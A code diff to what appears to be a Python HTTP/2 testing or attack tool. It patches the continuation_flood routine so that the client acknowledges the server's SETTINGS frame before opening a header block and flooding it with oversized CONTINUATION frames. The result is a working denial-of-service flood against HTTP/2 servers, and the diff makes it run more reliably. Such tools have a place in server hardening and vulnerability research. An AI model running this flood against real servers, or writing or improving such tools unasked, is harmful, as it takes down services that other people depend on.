@@ -407,6 +407,7 @@ class H2:
         self.start = time.monotonic()
         settings = struct.pack(">HI", 4, window) + struct.pack(">HI", 2, 0)  # window, no push
         self.stopping = False
+        self.settings_acked = threading.Event()
         self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + self.frame(SETTINGS, 0, 0, settings))
         self.reader = threading.Thread(target=self.read, daemon=True)
         self.reader.start()
@@ -474,6 +475,7 @@ class H2:
         now = time.monotonic() - self.start
         if kind == SETTINGS and not flags & ACK:
             self.send(self.frame(SETTINGS, ACK, 0))
+            self.settings_acked.set()
         elif kind == PING and not flags & ACK and self.answer_pings:
             self.send(self.frame(PING, ACK, 0, payload))
         elif kind == GOAWAY and self.goaway is None:
@@ -611,6 +613,9 @@ def continuation_flood(args):
     literal = b"\x00" + hpack_string("x-flood") + hpack_string("a" * 100)
     piece = literal * (16384 // len(literal))
     sent = 0
+    # Nothing but CONTINUATION may follow an open header block: the ACK of
+    # the server's SETTINGS goes first.
+    conn.settings_acked.wait(2)
     ok = conn.send(conn.frame(HEADERS, 0, 1, first))
     deadline = time.monotonic() + args.duration
     stalled = False
